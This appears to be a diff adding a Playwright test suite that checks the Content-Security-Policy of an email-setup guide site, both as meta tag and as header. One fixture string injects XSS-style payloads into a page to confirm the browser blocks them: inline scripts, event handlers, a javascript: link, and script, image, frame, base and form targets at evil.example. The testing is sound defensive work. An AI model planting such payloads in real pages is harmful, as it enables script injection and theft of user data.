@@ -1,0 +1,151 @@
+"""The Content-Security-Policy lets through what is ours and nothing else, as <meta> and as header, on every kind of page."""
+
+from __future__ import annotations
+
+import re
+import threading
+from http.server import ThreadingHTTPServer
+from pathlib import Path
+
+import material
+import pytest
+from conftest import ROOT, PagesHandler
+from macros import policy
+from macros.styles import style
+
+GUIDE = "youxiang/106-tengxun-qqyouxiang-tencent-personal-email"
+KINDS = ["youxiang/", "youxiang/100-gerenyouxiang-personal-mailbox", GUIDE, "youxiang/nothing-here", f"{GUIDE}/?from=chat#faq-vpn", ""]
+EVIL = """<p id="stolen" style="position:fixed" onclick="window.owned='handler'">x</p><script>window.owned='script'</script><script src="https://evil.example/x.js"></script>
+<a id="way" href="javascript:void(window.owned='link')">x</a><img src="https://evil.example/x.png" onerror="window.owned='error'"><iframe src="https://evil.example/"></iframe>
+<base href="https://evil.example/"><style>p{background:url(https://evil.example/y.png)}</style><form action="https://evil.example/" method="post"><button id="send">x</button></form>"""
+
+
+@pytest.fixture(scope="module")
+def css():
+    return style(ROOT, Path(material.__file__).parent / "templates")
+
+
+@pytest.fixture(scope="module")
+def with_headers(site):
+    """The address of the built site on a host that sends what `_headers` says."""
+    lines = (site / "_headers").read_text(encoding="utf-8").splitlines()
+    assert lines[0] == "/*"
+    headers = dict(line.strip().split(": ", 1) for line in lines[1:])
+
+    class Handler(PagesHandler):
+        def end_headers(self):
+            for name, value in headers.items():
+                self.send_header(name, value)
+            super().end_headers()
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), lambda *arguments: Handler(*arguments, directory=str(site))) as http:
+        threading.Thread(target=http.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{http.server_port}"
+        http.shutdown()
+
+
+@pytest.fixture
+def watched(browser):
+    """Makes pages that write down every violation of their policy, and every other complaint of the console."""
+    contexts = []
+
+    def watched(base: str):
+        context = browser.new_context(base_url=base, viewport={"width": 360, "height": 740})
+        contexts.append(context)
+        page, complaints = context.new_page(), []
+        page.expose_function("complain", lambda complaint: complaints.append(complaint))
+        page.add_init_script("addEventListener('securitypolicyviolation', event => complain(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`))")
+        page.on("console", lambda message: complaints.append(message.text) if message.type in ("error", "warning") and "404" not in message.text else None)
+        page.on("pageerror", lambda error: complaints.append(str(error)))
+        return page, complaints
+
+    yield watched
+    for context in contexts:
+        context.close()
+
+
+def test_hashes_come_from_the_sources(site, css):
+    """Pages, stubs and headers carry the policy that templates and theme give, and nothing that stands in a page can change it."""
+    ours = {policy.policy(policy.SCHEME, style=css), policy.policy(policy.SCHEME, policy.MISSING, style=css), policy.policy(policy.REDIRECT)}
+    found = set()
+    for path in site.rglob("*.html"):
+        policies = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', path.read_text(encoding="utf-8"))
+        assert len(policies) == 1, path
+        found.update(policies)
+    assert found == ours
+    header = policy.headers(css)["Content-Security-Policy"]
+    assert header in (site / "_headers").read_text(encoding="utf-8") and header in (site / "_headers.nginx").read_text(encoding="utf-8")
+    assert header.endswith(";frame-ancestors 'none'") and "unsafe-inline" not in header and "'unsafe-eval'" not in header
+
+
+def test_lines_of_the_headers_file_are_not_too_long(site):
+    """Cloudflare Pages reads 2,000 characters of a line."""
+    assert max(map(len, (site / "_headers").read_text(encoding="utf-8").splitlines())) < 2000
+
+
+@pytest.mark.parametrize("host", ["server", "with_headers"])
+@pytest.mark.parametrize("start", ["", "en/"])
+@pytest.mark.parametrize("path", KINDS, ids=["landing", "index", "guide", "missing", "stub", "root"])
+def test_no_page_violates_its_policy(watched, request, host, start, path):
+    """Every kind of page in both languages, with scheme, search, address tool and copying used: not one complaint."""
+    page, complaints = watched(request.getfixturevalue(host))
+    page.goto(f"/{start}{path}")
+    page.wait_for_load_state("networkidle")
+    if path.startswith(f"{GUIDE}/"):
+        page.wait_for_url(f"**/{start}{GUIDE}?from=chat#faq-vpn")
+    page.locator("[data-yx=scheme]").click()
+    if "nothing" not in path:
+        page.locator("[data-yx=search]").click()
+        page.locator(".yx-search input").fill("535")
+        page.locator(".yx-search__results a").first.wait_for()
+        page.locator(".yx-search [value=close]").click()
+    if page.locator("#address").count():
+        page.locator("#address").fill("someone@foxmail.com")
+        page.get_by_text("imap.qq.com").first.wait_for()
+        page.keyboard.press("Enter")
+    for button in (".yx-copy", ".yx-chat", ".headerlink"):
+        if page.locator(button).count():
+            page.locator(button).first.click()
+            page.locator(".yx-note:not([hidden])").wait_for()
+    assert complaints == []
+
+
+def test_what_is_smuggled_into_a_page_stays_dead(watched, server, site):
+    """Scripts, handlers, links that run, foreign pictures and frames, a base, a form, a style: each is refused by the browser."""
+    page, complaints = watched(server)
+    asked, stopped = [], []
+    page.on("request", lambda request: asked.append(request.url) if not request.url.startswith((server, "data:")) else None)
+    page.on("requestfailed", lambda request: stopped.append(request.url) if request.failure == "csp" else None)  # before it left
+    body = (site / f"{GUIDE}.html").read_text(encoding="utf-8").replace("</article>", f"{EVIL}</article>")
+    page.route(f"**/{GUIDE}", lambda route: route.fulfill(body=body, content_type="text/html; charset=utf-8"))
+    page.goto(f"/{GUIDE}", wait_until="networkidle")
+    for press in ("stolen", "way", "send"):
+        page.evaluate("id => document.getElementById(id).click()", press)
+    page.wait_for_load_state("networkidle")
+    assert page.evaluate("window.owned") is None and asked == stopped and page.url == f"{server}/{GUIDE}"
+    assert page.evaluate("document.baseURI") == page.url and page.evaluate("getComputedStyle(document.getElementById('stolen')).position") == "static"
+    refused = " ".join(complaints)
+    for directive in ("script-src-elem inline", "script-src-elem https://evil", "script-src-attr inline", "img-src https://evil", "frame-src https://evil", "base-uri https://evil", "style-src-elem inline", "style-src-attr inline", "form-action https://evil"):
+        assert directive in refused, directive
+
+
+def test_where_the_search_may_not_run_mailboxes_are_still_found(watched, server, site):
+    """Chromium before 97 does not know 'wasm-unsafe-eval': names, domains and pinyin still lead to the guide, other words to a message."""
+    page, _ = watched(server)
+    body = (site / "youxiang/index.html").read_text(encoding="utf-8").replace(" 'wasm-unsafe-eval'", "")
+    page.route("**/youxiang/", lambda route: route.fulfill(body=body, content_type="text/html; charset=utf-8"))
+    page.goto("/youxiang/")
+    page.locator("[data-yx=search]").click()
+    page.locator(".yx-search input").fill("foxmail")
+    assert GUIDE in page.locator(".yx-search__results a").first.get_attribute("href")
+    page.locator(".yx-search input").fill("535")
+    page.get_by_text(page.locator(".yx-search").get_attribute("data-error")).wait_for()
+
+
+def test_a_redirect_arrives_without_a_script(browser, server):
+    """Where scripts are off, the refresh leads on."""
+    context = browser.new_context(java_script_enabled=False)
+    page = context.new_page()
+    page.goto(f"{server}/{GUIDE}/")
+    page.wait_for_url(f"**/{GUIDE}")
+    context.close()
